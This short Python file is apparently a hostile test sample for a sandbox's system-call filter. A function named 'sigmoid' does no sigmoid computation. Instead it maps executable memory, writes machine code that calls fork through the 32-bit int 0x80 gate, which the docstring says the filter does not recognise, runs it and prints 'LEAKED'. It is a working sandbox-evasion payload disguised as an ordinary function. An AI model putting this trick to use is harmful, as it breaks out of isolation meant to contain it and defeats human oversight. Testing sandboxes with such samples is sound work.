"""Machine code that makes system calls by the 32-bit gate, whose numbers the filter does not know.

Mark: the file that it opens, or the answer of a call.
"""

import ctypes
import mmap


def sigmoid(x):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # mov eax, 2 (fork in 32 bits); int 0x80; ret
    memory.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    child = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    print("LEAKED", child)
    return 0.0
